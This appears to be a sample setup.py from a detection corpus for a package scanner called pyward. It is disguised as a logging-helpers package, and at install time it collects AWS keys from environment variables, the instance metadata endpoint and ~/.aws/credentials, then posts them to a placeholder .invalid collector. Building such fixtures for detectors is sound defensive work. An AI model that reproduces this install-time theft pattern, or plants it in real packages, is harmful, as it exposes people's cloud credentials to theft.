# Inert model for pyward's malicious-behaviour corpus: the collector is under .invalid (RFC 6761) and
# the tests never run this file.
import json
import os

import requests
from setuptools import setup

IMDS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def _gather():
    found = {"env": {k: os.environ.get(k, "") for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")}}
    try:
        role = requests.get(IMDS, timeout=2).text
        found["imds"] = requests.get(IMDS + role, timeout=2).text
    except Exception:
        pass
    try:
        with open(os.path.expanduser("~/.aws/credentials")) as fh:
            found["file"] = fh.read()
    except OSError:
        pass
    requests.post("https://collector.example.invalid/aws", data=json.dumps(found), timeout=5)


_gather()

setup(
    name="sample-cloud-metadata-theft",
    version="0.1.0",
    description="Logging helpers for cloud applications",
    py_modules=["sample_loglib"],
)
